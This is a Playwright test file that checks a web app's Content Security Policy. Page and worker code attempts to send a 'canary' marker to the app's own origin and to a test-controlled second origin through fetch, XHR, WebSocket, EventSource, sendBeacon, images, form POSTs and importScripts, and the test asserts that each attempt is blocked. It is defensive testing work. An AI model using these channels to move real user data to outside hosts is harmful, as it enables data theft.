/**
 * Every way a page or a dedicated worker could send data out is tried against
 * the real headers. Each attempt must be refused by the browser (a CSP
 * violation is observed) and nothing may arrive at nginx or at a second origin.
 */
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { expect, test } from '@playwright/test';
import { readCollected } from '../support/collector.ts';
import { baseUrl, env, watchPage } from './support.ts';

interface Attempt {
  channel: string;
  outcome: string;
  error?: string;
}
interface Violation {
  directive: string;
  blockedURI: string;
}

function accessLogLines(): string[] {
  return readFileSync(env('IMGLIO_ACCESS_LOG'), 'utf8').split('\n').filter(Boolean);
}

function expectNothingArrived(marker: string): void {
  const atNginx = accessLogLines().filter((line) => line.includes(marker));
  const atCollector = readCollected(env('IMGLIO_COLLECTOR_LOG')).filter((entry) => String(entry['url']).includes(marker));
  expect(atNginx, 'requests that reached nginx').toEqual([]);
  expect(atCollector, 'requests that reached the second origin').toEqual([]);
}

function expectViolation(violations: Violation[], directive: string, urlPart: string): void {
  const match = violations.find((v) => v.directive === directive && v.blockedURI.includes(urlPart));
  expect(match, `a ${directive} violation for ${urlPart} in ${JSON.stringify(violations)}`).toBeTruthy();
}

test('from the page: fetch, XHR, WebSocket, EventSource, sendBeacon, form POST and a foreign image are blocked', async ({ page }) => {
  const marker = randomUUID();
  const problems = await watchPage(page);
  await page.goto(`${baseUrl()}/`);
  const targets = [baseUrl(), env('IMGLIO_COLLECTOR_URL')];

  const attempts = await page.evaluate(
    async ({ targets, marker }) => {
      const settle = <T,>(promise: Promise<T>, ms = 3000) =>
        Promise.race([promise, new Promise<string>((resolve) => setTimeout(() => resolve('timeout'), ms))]);
      const results: Array<{ channel: string; outcome: string; error?: string }> = [];
      const attempt = async (channel: string, run: () => Promise<unknown>) => {
        try {
          results.push({ channel, outcome: String(await settle(run())) });
        } catch (error) {
          results.push({ channel, outcome: 'threw', error: String(error) });
        }
      };
      for (const base of targets) {
        const url = (channel: string) => `${base}/__leak__/page-${channel}-${marker}`;
        await attempt(`fetch ${base}`, () => fetch(url('fetch'), { method: 'POST', body: 'canary' }).then((r) => `status ${r.status}`));
        await attempt(`xhr ${base}`, () => new Promise((resolve) => {
          const xhr = new XMLHttpRequest();
          xhr.open('POST', url('xhr'));
          xhr.onload = () => resolve(`status ${xhr.status}`);
          xhr.onerror = () => resolve('error event');
          xhr.send('canary');
        }));
        await attempt(`websocket ${base}`, () => new Promise((resolve) => {
          const socket = new WebSocket(url('websocket').replace(/^http/, 'ws'));
          socket.onopen = () => resolve('open');
          socket.onerror = () => resolve('error event');
        }));
        await attempt(`eventsource ${base}`, () => new Promise((resolve) => {
          const source = new EventSource(url('eventsource'));
          source.onopen = () => resolve('open');
          source.onerror = () => { source.close(); resolve('error event'); };
        }));
        // sendBeacon's return value does not say whether CSP blocked it: the test observes instead.
        await attempt(`beacon ${base}`, async () => `returned ${navigator.sendBeacon(url('beacon'), 'canary')}`);
      }
      const foreign = targets[targets.length - 1];
      await attempt('image', () => new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve('loaded');
        image.onerror = () => resolve('error event');
        image.src = `${foreign}/__leak__/page-image-${marker}.png`;
      }));
      await attempt('form', async () => {
        const form = document.createElement('form');
        form.method = 'post';
        form.action = `${foreign}/__leak__/page-form-${marker}`;
        const field = document.createElement('input');
        field.name = 'canary';
        field.value = 'canary';
        form.append(field);
        document.body.append(form);
        form.submit();
        await new Promise((resolve) => setTimeout(resolve, 500));
        return `still on ${location.pathname}`;
      });
      await new Promise((resolve) => setTimeout(resolve, 500));
      return results;
    },
    { targets, marker },
  );

  const violations = await problems.violations();
  console.log(`page red team:\n${attempts.map((a: Attempt) => `  ${a.channel}: ${a.outcome}${a.error ? ` (${a.error})` : ''}`).join('\n')}`);
  for (const a of attempts) expect(a.outcome, a.channel).not.toMatch(/^(status|open|loaded)/);
  for (const base of targets) {
    for (const channel of ['fetch', 'xhr', 'websocket', 'eventsource', 'beacon']) {
      expectViolation(violations, 'connect-src', channel === 'websocket' ? `page-${channel}` : `page-${channel}-${marker}`);
    }
    void base;
  }
  expect(violations.filter((v) => v.directive === 'connect-src')).toHaveLength(targets.length * 5);
  expectViolation(violations, 'img-src', `page-image-${marker}`);
  expectViolation(violations, 'form-action', `page-form-${marker}`);
  expect(page.url()).toBe(`${baseUrl()}/`);
  expectNothingArrived(marker);
});

test('from a dedicated worker: fetch, XHR, WebSocket, EventSource and importScripts are blocked', async ({ page }) => {
  const marker = randomUUID();
  await page.goto(`${baseUrl()}/`);
  const targets = [baseUrl(), env('IMGLIO_COLLECTOR_URL')];

  const report = await page.evaluate(
    ({ targets, marker }) =>
      new Promise<{ results: Attempt[]; violations: Violation[]; crossOriginIsolated: boolean }>((resolve, reject) => {
        const worker = new Worker('/__test__/redteam-worker.js');
        worker.onmessage = ({ data }) => {
          worker.terminate();
          resolve(data);
        };
        worker.onerror = (event) => reject(new Error(event.message));
        worker.postMessage({ targets, marker });
      }),
    { targets, marker },
  );

  console.log(`worker red team:\n${report.results.map((a) => `  ${a.channel}: ${a.outcome}${a.error ? ` (${a.error})` : ''}`).join('\n')}`);
  expect(report.crossOriginIsolated, 'the worker runs cross-origin isolated (COOP+COEP)').toBe(true);
  for (const a of report.results) expect(a.outcome, a.channel).not.toMatch(/^(status|open|loaded)/);
  for (const channel of ['fetch', 'xhr', 'websocket', 'eventsource']) {
    expect(
      report.violations.filter((v) => v.directive === 'connect-src' && v.blockedURI.includes(`worker-${channel}`)),
      `${channel} violations in ${JSON.stringify(report.violations)}`,
    ).toHaveLength(targets.length);
  }
  expectViolation(report.violations, 'script-src-elem', `worker-import-${marker}`);
  expectNothingArrived(marker);
});
